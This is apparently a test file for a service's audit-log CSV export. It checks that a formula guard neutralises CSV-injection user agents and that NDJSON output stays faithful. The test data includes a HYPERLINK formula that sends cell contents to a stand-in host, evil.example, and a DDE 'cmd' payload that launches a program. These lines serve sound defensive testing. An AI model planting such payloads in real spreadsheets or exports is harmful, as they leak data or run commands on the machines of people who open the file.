/**
 * The CSV export's spreadsheet-formula guard (OWASP CSV injection): caller-controlled text beginning with
 * = + - @ or tab is written with a leading `'` inside its quotes by default; `csvFormulaGuard=false` writes the
 * same file byte-faithful; NDJSON is always faithful. The COPY path's equality with the query path, for both CSV
 * shapes, is tested in export-copy-path.test.ts.
 */
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { parseCsv } from '../support/csv.ts';
import { createCertificate } from '../support/iot-fixtures.ts';
import { demoAuditor, demoOperatorOne, demoOperatorTwo } from '../support/sign-request.ts';
import { useTestService } from '../support/test-service.ts';

/**
 * User agents a caller chooses freely; each would run as a formula in a spreadsheet cell. (A leading tab or CR
 * cannot arrive in a header, HTTP strips it: export-copy-path.test.ts covers those with rows written directly.)
 */
const FORMULA_AGENTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '@SUM(1+1)', '+1+1', '-2+3', "=cmd|' /C calc'!A0"];
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);
const HYPERLINK_MESSAGE = '=HYPERLINK("http://evil.example","x")';

describe('CSV export formula guard', () => {
  const t = useTestService({ auditSealIntervalMs: 0 });

  before(async () => {
    // Refused transfers of an ACTIVE certificate: each is audited (DENY) with the caller's user agent.
    const active = await createCertificate(t.one, true);
    for (const agent of FORMULA_AGENTS) {
      const r = await t.svc.send({
        method: 'PATCH',
        path: `/transfer-certificate/${active.certificateId}`,
        query: { targetAwsAccount: demoOperatorTwo.accountId },
        headers: { 'user-agent': agent },
        credential: demoOperatorOne,
      });
      assert.equal(r.status, 406, r.text);
    }
    const inactive = await createCertificate(t.one);
    const r = await t.svc.send({
      method: 'PATCH',
      path: `/transfer-certificate/${inactive.certificateId}`,
      query: { targetAwsAccount: demoOperatorTwo.accountId },
      body: JSON.stringify({ transferMessage: HYPERLINK_MESSAGE }),
      headers: { 'content-type': 'application/json', 'user-agent': '@SUM(9)' },
      credential: demoOperatorOne,
    });
    assert.equal(r.status, 200, r.text);
  });

  // Decisions only: every export adds its own AuditTrailRead row, so two unfiltered exports never have the same rows.
  const exportCsv = async (query: Record<string, string> = {}) => {
    const r = await t.svc.send({ method: 'GET', path: '/v1/audit/export', query: { format: 'csv', eventType: 'Decision', ...query }, credential: demoAuditor });
    assert.equal(r.status, 200, r.text);
    return r.text;
  };

  test('by default no cell begins with = + - @ tab or CR; formula-like text gets a leading quote', async () => {
    const text = await exportCsv();
    const [header, ...rows] = parseCsv(text);
    const userAgent = header!.indexOf('userAgent');
    for (const row of rows) {
      for (const cell of row) assert.ok(!TRIGGERS.has(cell.charAt(0)), `cell ${JSON.stringify(cell)} would run as a formula`);
    }
    const agents = rows.map((row) => row[userAgent]);
    for (const agent of [...FORMULA_AGENTS, '@SUM(9)']) assert.ok(agents.includes(`'${agent}`), `${JSON.stringify(agent)} neutralised`);
    assert.ok(text.includes(`"'@SUM(1+1)"`), 'the quote goes inside the quoted field');
    // The transfer message sits inside the requestParameters JSON (which begins with `{`): kept as sent.
    assert.ok(rows.some((row) => row[header!.indexOf('requestParameters')]!.includes(JSON.stringify(HYPERLINK_MESSAGE))));
  });

  test('csvFormulaGuard=false is byte-faithful: the guarded file is the faithful one with only those quotes added', async () => {
    const guarded = parseCsv(await exportCsv());
    const rawText = await exportCsv({ csvFormulaGuard: 'false' });
    const raw = parseCsv(rawText);
    assert.ok(rawText.includes('"@SUM(1+1)"') && rawText.includes('"-2+3"'));
    assert.equal(raw.length, guarded.length);
    for (const [r, row] of raw.entries()) {
      assert.deepEqual(
        guarded[r],
        row.map((cell) => (TRIGGERS.has(cell.charAt(0)) ? `'${cell}` : cell)),
        `row ${r}`,
      );
    }
    assert.equal(await exportCsv({ csvFormulaGuard: 'true' }), await exportCsv(), 'true is the default');
  });

  test('NDJSON stays faithful: the user agents are exported exactly as sent', async () => {
    const r = await t.svc.send({ method: 'GET', path: '/v1/audit/export', query: { format: 'ndjson' }, credential: demoAuditor });
    assert.equal(r.status, 200);
    const agents = r.text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => (JSON.parse(line) as { userAgent?: string }).userAgent);
    for (const agent of FORMULA_AGENTS) assert.ok(agents.includes(agent), JSON.stringify(agent));
  });

  test('csvFormulaGuard with another format, or not a boolean, is InvalidRequestException (400)', async () => {
    for (const query of [
      { format: 'ndjson', csvFormulaGuard: 'false' },
      { format: 'ocsf', csvFormulaGuard: 'true' },
      { format: 'csv', csvFormulaGuard: 'no' },
    ]) {
      const r = await t.svc.send({ method: 'GET', path: '/v1/audit/export', query, credential: demoAuditor });
      assert.equal(r.status, 400, JSON.stringify(query));
      assert.equal(r.headers.get('x-amzn-errortype'), 'InvalidRequestException');
      assert.equal(typeof r.json?.message, 'string');
    }
  });
});
